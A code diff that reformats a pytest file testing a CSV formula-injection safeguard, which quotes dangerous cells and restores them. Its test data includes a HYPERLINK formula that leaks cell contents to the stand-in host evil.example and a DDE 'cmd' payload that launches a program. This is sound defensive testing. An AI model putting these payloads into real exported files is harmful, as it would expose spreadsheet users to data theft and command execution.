@@ -12,8 +12,15 @@ from hypothesis import strategies as st
 
 from servicekit.csvsafe import FORMULA_START, DictWriter, neutralise, restore
 
-ATTACKS = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+1+cmd|' /C calc'!A0",
-           "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\0=1"]
+ATTACKS = [
+    '=HYPERLINK("https://evil.example/?"&A1,"Open")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\0=1",
+]
 
 
 @pytest.mark.parametrize("value", ATTACKS)
@@ -22,10 +29,21 @@ def test_formula_cells_get_a_quote_and_lose_it_again(value: str) -> None:
     assert restore(neutralise(value)) == value
 
 
-@pytest.mark.parametrize(("value", "written"), [
-    ("Report graffiti", "Report graffiti"), ("", ""), ("'quoted'", "'quoted'"),
-    ("'=already", "''=already"), ("''+twice", "'''+twice"), ("a=b", "a=b"),
-    ("01908 252570", "01908 252570"), (3, 3), (None, None), (-2, -2)])
+@pytest.mark.parametrize(
+    ("value", "written"),
+    [
+        ("Report graffiti", "Report graffiti"),
+        ("", ""),
+        ("'quoted'", "'quoted'"),
+        ("'=already", "''=already"),
+        ("''+twice", "'''+twice"),
+        ("a=b", "a=b"),
+        ("01908 252570", "01908 252570"),
+        (3, 3),
+        (None, None),
+        (-2, -2),
+    ],
+)
 def test_other_cells_as_they_are_and_quotes_kept_apart(value: object, written: object) -> None:
     assert neutralise(value) == written
     if isinstance(value, str):
@@ -50,7 +68,9 @@ def test_dict_writer_neutralises_and_quotes_every_cell() -> None:
     writer.writerow({"name": ATTACKS[0], "count": 3})
     writer.writerows([{"name": "ok;=X", "count": -1}])
     assert out.getvalue().splitlines() == [
-        '"name","count"', '"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","3"',
-        '"ok;=X","-1"']
+        '"name","count"',
+        '"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")","3"',
+        '"ok;=X","-1"',
+    ]
     rows = list(csv.DictReader(io.StringIO(out.getvalue())))
     assert [restore(r["name"]) for r in rows] == [ATTACKS[0], "ok;=X"]
